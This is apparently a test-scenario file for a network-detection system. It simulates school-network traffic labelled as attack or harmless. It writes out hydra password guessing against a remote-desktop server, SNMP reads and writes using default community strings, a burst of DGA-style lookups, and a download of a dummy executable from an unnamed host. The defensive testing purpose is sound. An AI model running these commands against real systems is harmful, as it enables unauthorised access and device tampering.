# SPDX-License-Identifier: Apache-2.0
"""Into other people's machines, and programs that came by themselves."""

import random

from acts import fetch, greet_gateway, look_up
from outside import PEER
from scenario import ATTACK, CONVERSATION, HARMLESS, Scenario
from scenarios.guessing import start_ssh
from scenarios.remote import XRDP
from web import serve_nginx


def start_xrdp(school, name, address):
    server, authority = school[name], school.outside.authority
    config = server.write("xrdp.ini", XRDP.format(
        address=address, folder=server.folder, key=authority.key,
        certificate=authority.certify("library.lincoln.test")))
    return server.start("xrdp", "--nodaemon", "--config", config).wait_port(3389)


def rdp_guessing(school):
    """One hydra a word: xrdp lets everybody as far as its own login page, which hydra takes
    for success and ends."""
    attacker = school["student-04"]
    with start_xrdp(school, "srv-old", "10.50.0.30"):
        greet_gateway(school, "student-04")
        for number in range(22):
            attacker.run("hydra", "-l", "teacher", "-p", f"chalk{number}", "-I",
                         "rdp://10.50.0.30", check=False)


def segment_breach(school):
    """A student's device logs in to a computer of the office."""
    admin = school["admin-01"]
    with serve_nginx(admin, "server { listen 8080; root /usr/share/nginx; }\n"
                     ) as server:
        server.wait_port(8080)
        greet_gateway(school, "student-02")
        school["student-02"].run("curl", "-sS", "-o", "/dev/null",
                                 "http://10.40.0.11:8080/", check=False)


def made_up_domains(school):
    """Malware looks for its controller under names that a date and a sum make."""
    host, dice = school["student-01"], random.Random(11)
    letters = "abcdefghijklmnopqrstuvwxyz"
    names = ["".join(dice.choices(letters, k=14)) + ".test" for _ in range(30)]
    batch = host.write("names", "".join(f"{name} A\n" for name in names))
    greet_gateway(school, "student-01")
    host.run("dig", "+short", "+tries=1", "-f", batch)


def dead_links(school):
    """Somebody follows old links: a few names that are no more."""
    greet_gateway(school, "student-01")
    for number in range(8):
        look_up(school, "student-01", f"old-page-{number}.test")


PROGRAM = b"MZ" + bytes(58) + (128).to_bytes(4, "little") + bytes(64) + b"PE\0\0"


def program_from_address(school):
    """A program comes by HTTP from a machine without a name."""
    far = school["outside"]
    far.run("mkdir", "-p", far.path("drop"))
    with open(far.path("drop/setup.exe"), "wb") as file:
        file.write(PROGRAM + random.Random(3).randbytes(40_000))
    with serve_nginx(far, f"server {{ listen {PEER}:8000; root {far.path('drop')};"
                     " types { application/x-msdownload exe; } }\n") as server:
        server.wait_port(8000)
        greet_gateway(school, "student-06")
        fetch(school, "student-06", f"http://{PEER}:8000/setup.exe")


def program_from_vendor(school):
    pages = school.outside.pages
    with open(pages + "/update.exe", "wb") as file:
        file.write(PROGRAM + random.Random(4).randbytes(40_000))
    greet_gateway(school, "staff-01")
    fetch(school, "staff-01", "http://updates.vendor.test/update.exe")


def ssh_from_outside(school):
    """Somebody outside logs in to a server by SSH, which a district may want."""
    sshd, key = start_ssh(school["srv-web"], school["outside"])
    with sshd:
        school["outside"].run("ssh", "-i", key, "-b", PEER, "-o",
                              "StrictHostKeyChecking=no", "-o",
                              "UserKnownHostsFile=/dev/null", "root@10.50.0.20", "uptime",
                              check=False)


def desktop_from_outside(school):
    """A server's remote desktop can be reached from the Internet."""
    with start_xrdp(school, "srv-old", "10.50.0.30"):
        school["outside"].run("hydra", "-l", "teacher", "-p", "chalk1", "-I",
                              "rdp://10.50.0.30", check=False, timeout=60)


FACTORY = """agentAddress udp:10.30.2.5:161
rocommunity public
rwcommunity private
sysDescr Copier in the staff room
"""


def snmp_read_out(school):
    """A student's device walks through a copier that is as it came, and renames it."""
    student, copier = school["student-03"], school["printer-01"]
    config = copier.write("snmpd.conf", FACTORY)
    with copier.start("snmpd", "-f", "-Lo", "-C", "-c", config, "-p",
                      copier.path("snmpd.pid"), hide=["/run", "/var/lib/snmp"]) as snmpd:
        snmpd.wait_port(161, "udp")
        greet_gateway(school, "student-03")
        student.run("snmpwalk", "-v1", "-c", "public", "-On", "10.30.2.5",
                    "1.3.6.1.2.1.1")
        student.run("snmpwalk", "-v2c", "-c", "public", "-On", "10.30.2.5",
                    "1.3.6.1.2.1.2")
        student.run("snmpset", "-v2c", "-c", "private", "-On", "10.30.2.5",
                    "1.3.6.1.2.1.1.5.0", "s", "renamed")


SCENARIOS = [
    Scenario("rdp-guessing", ATTACK,
             "A student's device tries twenty-two passwords on a server by remote "
             "desktop, which needs no proof before it shows its login page.", rdp_guessing,
             ["xrdp", "hydra"], ["guessing.rdp", "server.rdp-without-nla"],
             within=CONVERSATION, told_by=42),
    Scenario("desktop-from-outside", ATTACK,
             "Somebody outside reaches a server's remote desktop.", desktop_from_outside,
             ["xrdp", "hydra"], ["exposed.remote-access", "server.rdp-without-nla"],
             told_by=5),
    Scenario("segment-breach", ATTACK,
             "A student's device reaches a computer of the office.", segment_breach,
             rules=["network.segment-breach"], told_by=5),
    Scenario("made-up-domains", ATTACK,
             "A student's device looks up thirty domains that do not exist.",
             made_up_domains, rules=["malware.dga-burst"], told_by=5),
    Scenario("dead-links", HARMLESS,
             "A student's device looks up eight names that are no more.", dead_links),
    Scenario("program-from-address", ATTACK,
             "A student's device loads a program from a machine outside that has no name.",
             program_from_address, rules=["malware.program-from-address"], told_by=5),
    Scenario("program-from-vendor", HARMLESS,
             "A staff device loads a program from its vendor, by name.",
             program_from_vendor),
    Scenario("ssh-from-outside", HARMLESS,
             "An administrator at home logs in to a server by SSH.", ssh_from_outside,
             ["ssh", "ssh-keygen", "sshd"]),
    Scenario("snmp-read-out", ATTACK,
             "A student's device reads out a copier by SNMP, with the passwords that it "
             "came with, and renames it.", snmp_read_out, ["snmpd", "snmpwalk", "snmpset"],
             ["network.snmp-read-out", "network.snmp-write",
              "network.snmp-factory-password"], told_by=5),
]
